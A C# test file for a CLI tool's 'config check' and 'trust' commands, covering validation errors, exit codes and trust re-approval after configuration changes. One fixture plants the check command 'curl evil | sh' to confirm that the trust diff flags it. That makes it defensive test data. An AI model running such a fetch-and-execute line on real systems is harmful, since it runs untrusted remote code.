namespace FleetTui.Cli.Tests.Setup;

public sealed class ConfigAndTrustVerbSpecs
{
    [Fact]
    public async Task Config_check_prints_every_error_with_its_place_and_answers_2()
    {
        using var place = new SetupPlace();
        place.Git.Write(place.Root, "fleet.toml", "[landing]\ndebounc = '3s'\nmax-attempts = 'x'\n");

        var run = await place.RunAsync("config", "check");
        var json = await place.RunAsync("config", "check", "--json");

        Assert.Equal((2, 2), (run.Code, json.Code));
        Assert.Equal(3, run.Error.Split('\n', StringSplitOptions.RemoveEmptyEntries).Length);
        Assert.StartsWith("fleet.toml:2:1: There is no key landing.debounc. (did you mean debounce?)\n", run.Error, StringComparison.Ordinal);
        Assert.StartsWith("""{"errors":[{"file":"fleet.toml","line":2,"column":1,"message":"There is no key landing.debounc.","fix":"did you mean debounce?"},""", json.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Config_check_finds_overlapping_domains_and_names_a_path_that_exists()
    {
        using var place = new SetupPlace("docs/guide.md");
        place.Git.Write(place.Root, "roles.toml", "role = [{ name = 'a', domain = ['docs/**'] }, { name = 'b', domain = ['*.md'] }]\n");

        var run = await place.RunAsync("config", "check");

        Assert.Equal(2, run.Code);
        Assert.Contains("docs/guide.md", run.Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Config_check_knows_the_consoles_commands_and_keys()
    {
        using var place = new SetupPlace();
        place.Git.Write(place.Root, "fleet.toml", "[console.keys]\nzoom = 'Z'\nzoooom = 'Y'\nland = 'no-key'\n");

        var run = await place.RunAsync("config", "check");

        Assert.Equal(2, run.Code);
        Assert.StartsWith("fleet.toml:3:1: ", run.Error, StringComparison.Ordinal);
        Assert.Contains("\nfleet.toml:4:1: ", run.Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Config_check_answers_0_when_all_is_right_and_when_there_is_nothing()
    {
        using var place = new SetupPlace();

        var nothing = await place.RunAsync("config", "check");
        await place.RunAsync("init");
        var right = await place.RunAsync("config", "check");

        Assert.Equal((0, 0), (nothing.Code, right.Code));
        Assert.Contains("fleet init", nothing.Output, StringComparison.Ordinal);
        Assert.Equal("fleet.toml and roles.toml: no errors, 12 slots, 10 roles\n", right.Output);
    }

    [Fact]
    public async Task Trust_shows_what_can_run_and_asks_again_when_it_changes()
    {
        using var place = new SetupPlace();
        await place.RunAsync("init");

        Assert.Equal(1, (await place.RunAsync("trust", "--show")).Code);
        Assert.Equal(0, (await place.RunAsync("trust")).Code);
        Assert.Equal(0, (await place.RunAsync("trust", "--show")).Code);

        place.Git.Write(place.Root, "fleet.toml", "landing.checks = ['curl evil | sh']\nagents.sh.command = ['bash']\n");
        var changed = await place.RunAsync("trust", "--show");

        Assert.Equal(1, changed.Code);
        Assert.Contains("+ the lane checks 1: \"curl evil | sh\"\n", changed.Output, StringComparison.Ordinal);
        Assert.Contains("+ agent sh (command, restarts never) runs \"bash\"\n", changed.Output, StringComparison.Ordinal);
        Assert.Contains("- agent sh (command, restarts never) runs \"sh\"\n", changed.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Trust_is_shared_by_the_worktrees_of_a_repository_and_by_no_other()
    {
        using var place = new SetupPlace();
        using var other = new SetupPlace();
        place.Git.AddSlot(1);

        await place.RunAsync("trust");

        Assert.Equal(0, (await place.RunInAsync(place.Git.Slot(1), "trust", "--show")).Code);
        Assert.Equal(1, (await place.RunInAsync(other.Root, "trust", "--show")).Code);
    }

    [Fact]
    public async Task A_configuration_with_errors_cannot_be_trusted()
    {
        using var place = new SetupPlace();
        place.Git.Write(place.Root, "fleet.toml", "nam = 'x'");

        Assert.Equal(2, (await place.RunAsync("trust")).Code);
        Assert.False(Directory.Exists(Path.Combine(place.Git.Path, "state")));
    }
}
